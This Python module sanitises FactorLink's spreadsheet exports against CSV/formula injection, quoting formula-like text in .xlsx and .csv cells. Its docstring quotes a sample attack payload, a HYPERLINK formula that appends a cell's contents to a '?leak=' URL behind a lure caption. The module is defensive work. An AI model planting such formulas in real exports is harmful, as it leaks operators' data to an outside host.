"""Text that looks like a formula stays text in every spreadsheet FactorLink writes (pure).

Anyone may post a demand titled `=HYPERLINK("http://…?leak="&A2,"点击查看")`; an operator who
opens the export in Excel or WPS must see that text, not run it (OWASP, "CSV Injection"). A
spreadsheet evaluates a cell whose text starts with `=`, `+`, `-` or `@` (a leading tab or
carriage return is skipped by some readers, and WPS also takes the full-width ＝＋－＠). So:

- in .xlsx every text is written as a string cell with Excel's quote prefix (`quotePrefix`):
  the text is stored exactly, typed as text, and stays text when a user edits the cell;
- in .csv, which has no types, such a text gets one leading apostrophe (`'`), the mark Excel
  itself uses for "this is text"; a text that already starts with an apostrophe followed by
  one of those characters (or by another apostrophe) gets one more, so the mark is never
  ambiguous. `restore` takes exactly one mark off, so an export re-imports unchanged.

JSON and JSON lines are not spreadsheets and are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What makes a spreadsheet read a cell as a formula (or skip to one).
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
# Excel's own "this cell is text" mark.
TEXT_MARK = "'"


def looks_like_formula(value: Any) -> bool:
    """Tells whether a spreadsheet could take this value for a formula."""
    return isinstance(value, str) and bool(value) and value[0] in FORMULA_STARTS


def _marked(text: str) -> bool:
    """A text that starts with the mark before something a reader would otherwise strip."""
    return (
        len(text) > 1
        and text[0] == TEXT_MARK
        and (text[1] == TEXT_MARK or text[1] in FORMULA_STARTS)
    )


def csv_cell(value: Any) -> Any:
    """A value as it goes into a CSV cell: formula-like text marked as text; others as they are."""
    if looks_like_formula(value) or (isinstance(value, str) and _marked(value)):
        return TEXT_MARK + value
    return value


def restore(text: str) -> str:
    """Takes off the mark `csv_cell` put on (and only that): the text as it was stored."""
    return text[1:] if _marked(text) else text


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """A cell for a write-only sheet; formula-like text is a quoted text cell."""
    cell = WriteOnlyCell(sheet, value=value)
    if looks_like_formula(value):
        cell.data_type = "s"  # openpyxl takes "=…" for a formula; it is text
        cell.quotePrefix = True  # and stays text when the user edits the cell
    return cell


def xlsx_cells(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet: formula-like text as quoted text cells, the rest as is."""
    return [xlsx_cell(sheet, v) if looks_like_formula(v) else v for v in values]
